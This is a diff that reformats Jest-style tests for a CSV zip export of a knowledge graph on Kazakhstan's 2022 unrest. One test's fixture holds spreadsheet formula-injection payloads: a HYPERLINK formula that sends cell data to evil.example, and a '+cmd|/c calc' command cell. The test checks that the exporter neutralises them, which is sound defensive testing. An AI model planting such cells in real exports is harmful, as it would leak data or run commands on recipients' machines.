@@ -43,7 +43,12 @@ describe('CSV zip export', () => {
     const nodes = rows(files['nodes.csv']!);
     expect(nodes).toHaveLength(entities.length);
     const smailov = nodes.find((n) => n.id === 'alikhan-smailov')!;
-    expect(smailov).toMatchObject({ kind: 'Person', name: 'Älichan Smajylow', aliases: 'Alikhan Smailov; Әлихан Смайылов', description: 'Acting prime minister, "first deputy"' });
+    expect(smailov).toMatchObject({
+      kind: 'Person',
+      name: 'Älichan Smajylow',
+      aliases: 'Alikhan Smailov; Әлихан Смайылов',
+      description: 'Acting prime minister, "first deputy"',
+    });
     expect(Number(nodes.find((n) => n.id === 'almaty')!.lat)).toBeCloseTo(43.2389);
   });
 
@@ -51,14 +56,29 @@ describe('CSV zip export', () => {
     const edges = rows(files['edges.csv']!);
     expect(edges.map((e) => e.id).sort()).toEqual(relations.map((r) => r.id).sort());
     const aid = edges.find((e) => e.id === 'tokayev-requested-aid-from-csto')!;
-    expect(aid).toMatchObject({ source: 'kassym-jomart-tokayev', target: 'csto', relationType: 'REQUESTED_AID_FROM', label: 'requested aid from', date: '2022-01-05', start: '2022-01-05', end: '2022-01-05', stance: 'ASSERTED', confidence: '0.9', sourceCount: '2', contested: 'false', sourceIds: 'src-a; src-b' });
+    expect(aid).toMatchObject({
+      source: 'kassym-jomart-tokayev',
+      target: 'csto',
+      relationType: 'REQUESTED_AID_FROM',
+      label: 'requested aid from',
+      date: '2022-01-05',
+      start: '2022-01-05',
+      end: '2022-01-05',
+      stance: 'ASSERTED',
+      confidence: '0.9',
+      sourceCount: '2',
+      contested: 'false',
+      sourceIds: 'src-a; src-b',
+    });
     expect(aid.quotes).toBe(`[1] ${TRICKY_QUOTE}\n[2] Tokayev asked the CSTO for help.`);
     expect(edges.find((e) => e.id === 'csto-coordinated-unrest')!.contested).toBe('true');
   });
 
   it('keeps each quote exactly in evidence.csv (commas, quotes, line breaks), numbered like sources.csv', () => {
     const evidence = rows(files['evidence.csv']!);
-    const expected = relations.flatMap((r) => r.evidence.map((e, i) => ({ relationId: r.id, position: String(i + 1), sourceId: e.sourceId, stance: e.stance, quote: e.quote })));
+    const expected = relations.flatMap((r) =>
+      r.evidence.map((e, i) => ({ relationId: r.id, position: String(i + 1), sourceId: e.sourceId, stance: e.stance, quote: e.quote })),
+    );
     expect(evidence.map(({ sourceNumber: _n, ...rest }) => rest)).toEqual(expected);
     const sources = rows(files['sources.csv']!);
     expect(sources.map((s) => [s.number, s.id])).toEqual([
@@ -79,20 +99,32 @@ describe('CSV zip export', () => {
 
   it('adds a byte-order mark to every CSV file when asked (for Excel)', async () => {
     const { raw: r, files: f } = await unzip(await collectBytes(writeCsvZip(input(), { bom: true })));
-    for (const name of ['nodes.csv', 'edges.csv', 'evidence.csv', 'sources.csv']) expect([...r[name]!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    for (const name of ['nodes.csv', 'edges.csv', 'evidence.csv', 'sources.csv'])
+      expect([...r[name]!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(rows(f['nodes.csv']!.replace(/^\uFEFF/, ''))[0]!.id).toBe('alikhan-smailov');
   });
 
   it('neutralises cells a spreadsheet would read as formulas (OWASP): a leading quote, read back as text by a CSV parser', async () => {
     const hostile: Entity[] = [
-      { id: 'f-eq', kind: 'Person', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', aliases: ['-2+3', '@SUM(A1:A9)'], description: '+cmd|/c calc', roles: [] },
+      {
+        id: 'f-eq',
+        kind: 'Person',
+        name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        aliases: ['-2+3', '@SUM(A1:A9)'],
+        description: '+cmd|/c calc',
+        roles: [],
+      },
       { id: 'f-ws', kind: 'Person', name: '\t=1+1', aliases: [], description: '\r=1+1', roles: ['safe'] },
       { id: 'f-ok', kind: 'Person', name: 'Plain = name', aliases: ["'quoted"], description: 'a-b', roles: [] },
     ];
     const { files: f } = await unzip(await collectBytes(writeCsvZip(input({ nodes: hostile, edges: [] }))));
     const nodes = rows(f['nodes.csv']!);
     const byId = (id: string) => nodes.find((n) => n.id === id)!;
-    expect(byId('f-eq')).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?"&A1,"click")`, aliases: "'-2+3; @SUM(A1:A9)", description: "'+cmd|/c calc" });
+    expect(byId('f-eq')).toMatchObject({
+      name: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+      aliases: "'-2+3; @SUM(A1:A9)",
+      description: "'+cmd|/c calc",
+    });
     expect(byId('f-ws')).toMatchObject({ name: "'\t=1+1", description: "'\r=1+1" });
     // Only leading characters count; anything else is written as it is.
     expect(byId('f-ok')).toMatchObject({ name: 'Plain = name', aliases: "'quoted", description: 'a-b' });
